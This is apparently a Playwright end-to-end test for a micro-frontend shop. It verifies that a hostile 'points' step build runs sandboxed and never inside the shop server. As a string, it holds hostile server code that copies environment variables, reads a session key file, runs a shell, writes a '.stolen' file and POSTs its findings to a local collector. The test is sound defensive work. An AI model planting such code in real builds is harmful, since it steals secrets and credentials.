// A release is code from another team, made without anyone else looking (docs/server-rendering.md). A points build
// whose server code reads the environment and a key file, runs a shell, calls the insurer and sends what it found to
// a listener of its author's is released into a running shop, for every buyer and as a trial build at 0 %: that code
// runs only where the step is built, with no secret to find and no shell to run, never in the shop server, and the
// buyers' pages keep working.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test, type Browser } from '@playwright/test';
import { freePort } from '../support/ports';
import { ROOT, defaultRegistry, sandboxUrl, serveRemote, startShell, type Running } from '../support/shop';
import { createSignedContract, LOYALTY_CUSTOMERS, POINTS_TEXTS, reachPoints } from '../support/steps/points';
import { buildStepVariant, type StepVariant } from '../support/stepVariant';

test.describe.configure({ mode: 'serial' });

const BUILD_ID = 'e2e-hostile';
/** Secrets a build machine may have in its environment; the renderer must see none of them. */
const BUILD_SECRETS = {
  SESSION_SECRET: 'build-machine-session-key',
  COM_TOKEN: 'a-partner-token',
  LOYALTY_LINK_KEY: 'a-link-key',
};
/** A key file as `npm start` keeps one (.local/session-secret): the renderer may not read it. */
const keyFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-key-')), 'session-secret');
writeFileSync(keyFile, 'the-local-shop-key');

interface Findings {
  env: Record<string, string>;
  keyFile: string;
  shell: string;
  written: string;
  insurer: number | string;
}

/**
 * The hostile author's listener: a process of its own (the step is built with spawnSync, which holds this worker's
 * event loop), writing each report it receives as a line of `collected`.
 */
const collected = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-collected-')), 'reports');
const COLLECTOR = `
const { appendFileSync } = require('node:fs');
require('node:http').createServer((request, response) => {
  let body = '';
  request.on('data', (chunk) => (body += chunk));
  request.on('end', () => { appendFileSync(process.argv[1], body + '\\n'); response.end(); });
}).listen(Number(process.argv[2]), '127.0.0.1');`;
let collector: ChildProcess;
let collectorUrl: string;

/** What the hostile code sent home, each time it ran. */
const received = (): Findings[] =>
  existsSync(collected)
    ? readFileSync(collected, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line) as Findings)
    : [];

/** Prepended to mf-points/src/server.ts: runs whenever the step's server code is loaded. */
const hostileCode = () => `import { execFileSync as hostileExec } from 'node:child_process';
import { readFileSync as hostileRead, writeFileSync as hostileWrite } from 'node:fs';
const hostileTry = (attempt: () => unknown) => {
  try {
    return String(attempt());
  } catch (error) {
    return String((error as { code?: string }).code ?? error);
  }
};
const hostileFindings = {
  env: { ...process.env },
  keyFile: hostileTry(() => hostileRead(${JSON.stringify(keyFile)}, 'utf8')),
  shell: hostileTry(() => hostileExec('/bin/sh', ['-c', 'echo ran'], { encoding: 'utf8' }).trim()),
  written: hostileTry(() => hostileWrite(${JSON.stringify(`${keyFile}.stolen`)}, 'x')),
};
void fetch(${JSON.stringify(`${sandboxUrl()}/green/search?area=EUROPE&type=CAR&period=YEAR&customerCategory=NATURAL`)}, {
  headers: { 'COM-TOKEN': process.env.COM_TOKEN ?? '' },
})
  .then((answer) => answer.status, (error: unknown) => String(error))
  .then((insurer) => fetch(${JSON.stringify(collectorUrl)}, { method: 'POST', body: JSON.stringify({ ...hostileFindings, insurer }) }));
`;

let hostile: StepVariant;
let hostileServer: Running;
let registryFile: string;
let shell: Running;

function release(...args: string[]) {
  const run = spawnSync(
    process.execPath,
    [
      path.join(ROOT, 'scripts', 'release.mjs'),
      'points',
      hostile.folder,
      '--registry',
      registryFile,
      '--origin',
      hostileServer.url,
      ...args,
    ],
    {
      cwd: ROOT,
      encoding: 'utf8',
    },
  );
  expect(run.status, run.stderr).toBe(0);
}

/** A buyer's pages in the shop with the hostile build released: the home page and the points step both work. */
async function buyersPagesWork(browser: Browser) {
  const context = await browser.newContext({ baseURL: shell.url, locale: 'en-GB', timezoneId: 'Europe/Kyiv' });
  const page = await context.newPage();
  await page.route('https://www.googletagmanager.com/**', (route) => route.abort());
  await page.goto('/en');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Green Card online');
  await reachPoints(page, 'en', await createSignedContract(page.request), LOYALTY_CUSTOMERS.rich);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(POINTS_TEXTS.en.title);
  await context.close();
}

test.beforeAll(async () => {
  test.setTimeout(300_000);
  const port = await freePort();
  collector = spawn(process.execPath, ['-e', COLLECTOR, collected, String(port)], { stdio: 'ignore' });
  collectorUrl = `http://127.0.0.1:${port}/`;
  await expect
    .poll(() =>
      fetch(collectorUrl, { method: 'POST', body: '{"probe":true}' }).then(
        (r) => r.ok,
        () => false,
      ),
    )
    .toBe(true);
  writeFileSync(collected, '');
  const environment = { ...process.env };
  Object.assign(process.env, BUILD_SECRETS);
  try {
    hostile = buildStepVariant('points', [{ file: 'mf-points/src/server.ts', from: /^/, to: hostileCode() }], BUILD_ID);
  } finally {
    for (const name of Object.keys(BUILD_SECRETS)) {
      if (environment[name] === undefined) delete process.env[name];
      else process.env[name] = environment[name];
    }
  }
  hostileServer = await serveRemote(hostile.dist);
  registryFile = path.join(mkdtempSync(path.join(tmpdir(), 'greencard-isolation-')), 'registry.json');
  shell = await startShell(defaultRegistry(), registryFile);
});

test.afterAll(async () => {
  await Promise.all([shell?.stop(), hostileServer?.stop()]);
  collector?.kill();
});

test('the hostile code ran only where the step was built: no variable, no key file, no shell, no write, no token', async () => {
  await expect.poll(() => received().length).toBe(1);
  const [findings] = received();
  // The build's own environment had the secrets; the renderer process it started has no variable at all.
  expect(findings?.env).toEqual({});
  expect(findings?.keyFile).toBe('ERR_ACCESS_DENIED');
  expect(findings?.shell).toBe('ERR_ACCESS_DENIED');
  expect(findings?.written).toBe('ERR_ACCESS_DENIED');
  // Without the partner token the insurer answers it as it answers anyone.
  expect(findings?.insurer).toBe(401);
});

for (const [how, args] of [
  ['for every buyer', []],
  ['as a trial build for 0 % of starting buyers', ['--share', '0']],
] as const) {
  test(`released ${how}, it never runs in the shop server, and the buyers' pages work`, async ({ browser }) => {
    writeFileSync(collected, '');
    release(...args);
    await buyersPagesWork(browser);
    // A while for anything the shop server might load in the background once the registry changed.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(received()).toEqual([]);
  });
}
